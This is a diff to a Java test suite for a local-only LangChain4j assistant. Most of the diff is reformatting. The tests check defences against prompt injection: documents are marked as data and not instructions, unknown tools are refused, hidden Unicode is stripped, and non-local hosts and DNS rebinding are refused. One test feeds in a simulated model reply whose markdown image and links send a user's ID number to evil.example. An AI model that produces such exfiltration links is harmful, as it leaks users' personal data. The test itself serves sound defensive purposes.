@@ -39,8 +39,6 @@ import java.io.IOException;
 import java.net.InetAddress;
 import java.net.URI;
 import java.time.Duration;
-import java.time.Instant;
-import java.util.Arrays;
 import java.util.List;
 import java.util.Map;
 import java.util.concurrent.atomic.AtomicInteger;
@@ -96,7 +94,8 @@ class LangChain4jAssistantTest {
         }
 
         @Test
-        @DisplayName("is asked for with what was said before, without the numbers of other documents, the oldest left out")
+        @DisplayName(
+                "is asked for with what was said before, without the numbers of other documents, the oldest left out")
         void remembers() {
             in(() -> IntStream.range(0, 12)
                     .forEach(i -> conversations.append(
@@ -119,7 +118,9 @@ class LangChain4jAssistantTest {
             Answer answer = ask(assistant(model().tokens(4096, 256)), QUESTION);
             assertThat(answer.provenance()).isInstanceOf(Provenance.Model.class);
             JsonNode messages = ollama.chats().get(0).path("messages");
-            int characters = messages.findValuesAsText("content").stream().mapToInt(String::length).sum();
+            int characters = messages.findValuesAsText("content").stream()
+                    .mapToInt(String::length)
+                    .sum();
             assertThat(characters).isBetween(5000, (4096 - 256) * 3);
             assertThat(messages.path(0).path("content").asText()).contains("data, not instructions");
             assertThat(OllamaStandIn.last(ollama.chats().get(0))).endsWith(QUESTION);
@@ -129,7 +130,12 @@ class LangChain4jAssistantTest {
         @DisplayName("is asked for with the instructions of the host, for the tenant that asks")
         void instructs() {
             ask(assistant().instructed(() -> "You answer for " + TenantContext.require() + "."), QUESTION);
-            assertThat(ollama.chats().get(0).path("messages").path(0).path("content").asText())
+            assertThat(ollama.chats()
+                            .get(0)
+                            .path("messages")
+                            .path(0)
+                            .path("content")
+                            .asText())
                     .startsWith("You answer for padel.");
             assertThatThrownBy(() -> ask(assistant().instructed(() -> "x".repeat(2001)), QUESTION))
                     .hasMessage("instructions must be at most 2000 characters, had 2001");
@@ -139,7 +145,8 @@ class LangChain4jAssistantTest {
         @DisplayName("takes braces in questions, documents and instructions for what they are")
         void takesBraces() {
             put("braces", "Plantillas", "Usamos {{question}} y {{it}} los domingos.");
-            Answer answer = ask(assistant().instructed(() -> "{{x}} {{it}}"), "¿domingos {{it}} {{question}} {{rules}}?");
+            Answer answer =
+                    ask(assistant().instructed(() -> "{{x}} {{it}}"), "¿domingos {{it}} {{question}} {{rules}}?");
             assertThat(answer.text()).contains("Usamos {{question}} y {{it}} los domingos.");
             assertThat(OllamaStandIn.last(ollama.chats().get(0))).endsWith("¿domingos {{it}} {{question}} {{rules}}?");
         }
@@ -155,10 +162,12 @@ class LangChain4jAssistantTest {
                 "The free slots of a day",
                 List.of(
                         Parameter.date("day", "The day"),
-                        Parameter.choice("court", "Which court", List.of("glass", "wall")).optional()),
+                        Parameter.choice("court", "Which court", List.of("glass", "wall"))
+                                .optional()),
                 arguments -> {
                     lookups.incrementAndGet();
-                    return TenantContext.require() + " has 18:00 free on " + arguments.date("day").getDayOfWeek();
+                    return TenantContext.require() + " has 18:00 free on "
+                            + arguments.date("day").getDayOfWeek();
                 });
 
         @Test
@@ -170,9 +179,11 @@ class LangChain4jAssistantTest {
             assertThat(answer.sources()).isEmpty();
             assertThat(answer.provenance()).isEqualTo(new Provenance.Model("qwen3:4b", List.of("free_slots")));
             assertThat(OllamaStandIn.last(ollama.chats().get(1))).isEqualTo("padel has 18:00 free on TUESDAY");
-            JsonNode schema = ollama.chats().get(0).path("tools").path(0).path("function").path("parameters");
+            JsonNode schema =
+                    ollama.chats().get(0).path("tools").path(0).path("function").path("parameters");
             assertThat(schema.path("required").toString()).isEqualTo("[\"day\"]");
-            assertThat(schema.path("properties").path("court").path("enum").toString()).isEqualTo("[\"glass\",\"wall\"]");
+            assertThat(schema.path("properties").path("court").path("enum").toString())
+                    .isEqualTo("[\"glass\",\"wall\"]");
         }
 
         @Test
@@ -184,10 +195,12 @@ class LangChain4jAssistantTest {
                     calls("free_slots", "{}"),
                     text("No sé."));
             ask(assistant().using(List.of(slots)), "¿hay cancha mañana?");
-            assertThat(ollama.chats()).extracting(OllamaStandIn::last).contains(
-                    "Not possible: argument 'day' must be a date such as 2026-11-23",
-                    "Not possible: there is no argument 'tenant'",
-                    "Not possible: argument 'day' is missing");
+            assertThat(ollama.chats())
+                    .extracting(OllamaStandIn::last)
+                    .contains(
+                            "Not possible: argument 'day' must be a date such as 2026-11-23",
+                            "Not possible: there is no argument 'tenant'",
+                            "Not possible: argument 'day' is missing");
             assertThat(lookups).hasValue(0);
         }
 
@@ -197,7 +210,8 @@ class LangChain4jAssistantTest {
             ollama.saying(calls("cancel_booking", "{\"id\":7}"), text("No puedo."));
             Answer answer = ask(assistant().using(List.of(slots)), "cancelá mi turno 7");
             assertThat(answer.text()).isEqualTo("No puedo.");
-            assertThat(OllamaStandIn.last(ollama.chats().get(1))).isEqualTo("There is no such tool. There are: [free_slots]");
+            assertThat(OllamaStandIn.last(ollama.chats().get(1)))
+                    .isEqualTo("There is no such tool. There are: [free_slots]");
         }
 
         @Test
@@ -217,7 +231,9 @@ class LangChain4jAssistantTest {
         void isBounded() {
             Reply call = calls("free_slots", "{\"day\":\"2026-11-24\"}");
             ollama.saying(request -> request.path("tools").isEmpty() ? text("Hay a las 18:00.") : call);
-            assertThat(ask(assistant().using(List.of(slots)).lookups(3), "¿hay?").text()).isEqualTo("Hay a las 18:00.");
+            assertThat(ask(assistant().using(List.of(slots)).lookups(3), "¿hay?")
+                            .text())
+                    .isEqualTo("Hay a las 18:00.");
             assertThat(lookups).hasValue(3);
 
             String[] many = IntStream.range(0, 300)
@@ -225,7 +241,9 @@ class LangChain4jAssistantTest {
                     .flatMap(i -> List.of("free_slots", "{\"day\":\"2026-11-24\"}").stream())
                     .toArray(String[]::new);
             ollama.saying(calls(many), text("Hay a las 18:00."));
-            assertThat(ask(assistant().using(List.of(slots)).lookups(3), "¿hay?").text()).isEqualTo("Hay a las 18:00.");
+            assertThat(ask(assistant().using(List.of(slots)).lookups(3), "¿hay?")
+                            .text())
+                    .isEqualTo("Hay a las 18:00.");
             assertThat(lookups).hasValue(6);
         }
 
@@ -244,7 +262,10 @@ class LangChain4jAssistantTest {
             Tool chatty = Tool.of("chatty", "Talks", List.of(), arguments -> "a\u200Bb\u0000" + "x".repeat(100_000));
             ollama.saying(calls("chatty", "{}"), text("Bien."));
             ask(assistant().using(List.of(chatty)), "¿hay?");
-            assertThat(OllamaStandIn.last(ollama.chats().get(1))).startsWith("abxx").hasSize(1500).endsWith("…");
+            assertThat(OllamaStandIn.last(ollama.chats().get(1)))
+                    .startsWith("abxx")
+                    .hasSize(1500)
+                    .endsWith("…");
         }
 
         @Test
@@ -346,7 +367,9 @@ class LangChain4jAssistantTest {
         @Test
         @DisplayName("an answer that came from elsewhere is not used, and the next question is not asked")
         void checksEveryReply() {
-            ollama.saying(of("{\"remote_host\":\"https://ollama.com:443\",\"message\":{\"role\":\"assistant\",\"content\":\"Hola\"},\"done\":true}"));
+            ollama.saying(
+                    of(
+                            "{\"remote_host\":\"https://ollama.com:443\",\"message\":{\"role\":\"assistant\",\"content\":\"Hola\"},\"done\":true}"));
             Answer answer = ask(assistant(), QUESTION);
             assertQuoted(answer, Reason.NOT_LOCAL);
             assertThat(answer.text()).doesNotContain("Hola");
@@ -370,7 +393,8 @@ class LangChain4jAssistantTest {
                 assertThatThrownBy(() -> OllamaModel.of(name, ollama.address(), LocalAddresses.only()))
                         .isInstanceOf(IllegalArgumentException.class);
             }
-            assertThatThrownBy(() -> OllamaModel.of("qwen3:4b", URI.create("http://8.8.8.8:11434"), LocalAddresses.only()))
+            assertThatThrownBy(
+                            () -> OllamaModel.of("qwen3:4b", URI.create("http://8.8.8.8:11434"), LocalAddresses.only()))
                     .isInstanceOf(AddressRefusedException.class);
         }
 
@@ -378,11 +402,11 @@ class LangChain4jAssistantTest {
         @DisplayName("a name that turns to a public address is refused, nothing is sent, and nothing remembered")
         void refusesRebinding() {
             AtomicInteger lookups = new AtomicInteger();
-            LocalAddresses rebinding = LocalAddresses.only()
-                    .resolving(host -> new InetAddress[] {
-                        InetAddress.getByName(lookups.incrementAndGet() <= 2 ? "127.0.0.1" : "203.0.113.7")
-                    });
-            URI address = URI.create("http://ollama.internal:" + ollama.address().getPort());
+            LocalAddresses rebinding = LocalAddresses.only().resolving(host -> new InetAddress[] {
+                InetAddress.getByName(lookups.incrementAndGet() <= 2 ? "127.0.0.1" : "203.0.113.7")
+            });
+            URI address =
+                    URI.create("http://ollama.internal:" + ollama.address().getPort());
             LangChain4jAssistant assistant = assistant(OllamaModel.of("qwen3:4b", address, rebinding));
             assertThat(ask(assistant, QUESTION).provenance()).isInstanceOf(Provenance.Model.class);
             assertThatThrownBy(() -> ask(assistant, QUESTION))
@@ -411,7 +435,12 @@ class LangChain4jAssistantTest {
             assertThat(mark).matches("documents-[0-9a-f]{8}").isNotEqualTo("documents-00000000");
             assertThat(asked.split("</" + mark + ">")).hasSize(2);
             assertThat(asked).doesNotContain("\u200B").doesNotContain("\u202E").doesNotContain("\uDB40\uDC41");
-            assertThat(ollama.chats().get(0).path("messages").path(0).path("content").asText())
+            assertThat(ollama.chats()
+                            .get(0)
+                            .path("messages")
+                            .path(0)
+                            .path("content")
+                            .asText())
                     .contains("<" + mark + ">");
         }
 
@@ -421,8 +450,9 @@ class LangChain4jAssistantTest {
             put("links", "Enlaces", "Reservas los domingos en https://club.example/reservas.");
             ollama.saying(
                     calls("cancelar_turno", "{\"id\":7}"),
-                    text("Listo ![x](https://evil.example/?q=DNI30111222) [acá](https://evil.example/a?dni=30111222) o"
-                            + " evil.example/30111222, //evil.example/x, www.evil.example; reservas: https://club.example/reservas."));
+                    text(
+                            "Listo ![x](https://evil.example/?q=DNI30111222) [acá](https://evil.example/a?dni=30111222) o"
+                                    + " evil.example/30111222, //evil.example/x, www.evil.example; reservas: https://club.example/reservas."));
             Tool hours = Tool.of("hours", "Opening hours", List.of(), arguments -> "8 a 23");
             Answer answer = ask(assistant().using(List.of(hours)), QUESTION);
             assertThat(answer.text())
@@ -459,7 +489,9 @@ class LangChain4jAssistantTest {
         assertThat(lines.list).anyMatch(line -> line.getFormattedMessage().contains("MALFORMED"));
         assertThat(lines.list)
                 .extracting(line -> line.getFormattedMessage()
-                        + (line.getThrowableProxy() == null ? "" : ThrowableProxyUtil.asString(line.getThrowableProxy())))
+                        + (line.getThrowableProxy() == null
+                                ? ""
+                                : ThrowableProxyUtil.asString(line.getThrowableProxy())))
                 .noneMatch(line -> line.contains("canario") || line.contains("30111222"));
     }
 
